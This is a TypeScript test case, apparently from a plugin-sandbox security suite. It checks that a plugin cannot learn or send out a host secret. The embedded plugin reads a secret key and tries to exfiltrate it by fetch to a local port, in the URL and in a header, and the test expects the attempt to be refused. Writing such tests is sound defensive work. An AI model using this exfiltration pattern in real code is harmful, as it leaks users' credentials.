import type { Attack } from '../../attack.ts'

/** The value of a secret through its placeholder, everywhere but at its host. */
export default {
  name: 'the value of a secret through its placeholder, everywhere but at its host',
  expect: { status: 'answered', value: { known: false, sent: 'refused' }, calls: ['kv.echo "x"'] },
  plugin: String.raw`
    export default async (input, ctx) => {
      const { KEY } = ctx.secrets
      const back = await ctx.sdk.kv.echo('x')
      let sent = 'sent'
      try { await fetch('http://127.0.0.1:' + input.port + '/?k=' + KEY, { headers: { k: KEY } }) } catch { sent = 'refused' }
      console.log(KEY)
      return { known: /secret-of/.test(KEY + back), sent }
    }
  `,
} satisfies Attack
